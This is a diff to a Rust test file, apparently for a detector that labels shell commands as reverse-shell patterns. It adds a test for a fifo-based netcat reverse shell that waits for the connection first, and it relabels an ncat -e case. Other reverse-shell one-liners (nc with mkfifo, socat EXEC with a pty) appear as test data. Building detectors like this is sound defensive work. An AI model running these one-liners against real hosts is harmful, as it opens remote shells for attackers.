@@ -86,6 +86,15 @@ fn nc_and_mkfifo_the_other_way_round() {
     prove("mkfifo f; nc HOST PORT <f | sh >f 2>&1", "reverse-shell-pipes");
 }
 
+/// The connection is there long before the pipes lead to it.
+#[test]
+fn nc_and_a_fifo_opened_late() {
+    prove(
+        "mkfifo f; (until ss -Htn state established dport = :PORT | grep -q .; do :; done; cat f) | sh -i 2>&1 | nc HOST PORT 1<>f",
+        "reverse-shell-pipes",
+    );
+}
+
 #[test]
 fn socat_exec_with_a_pty() {
     prove("socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:HOST:PORT", "reverse-shell-relay");
@@ -98,7 +107,7 @@ fn socat_exec() {
 
 #[test]
 fn ncat_exec() {
-    prove("ncat HOST PORT -e /bin/sh", "reverse-shell-socket");
+    prove("ncat HOST PORT -e /bin/sh", "reverse-shell-relay");
 }
 
 #[test]
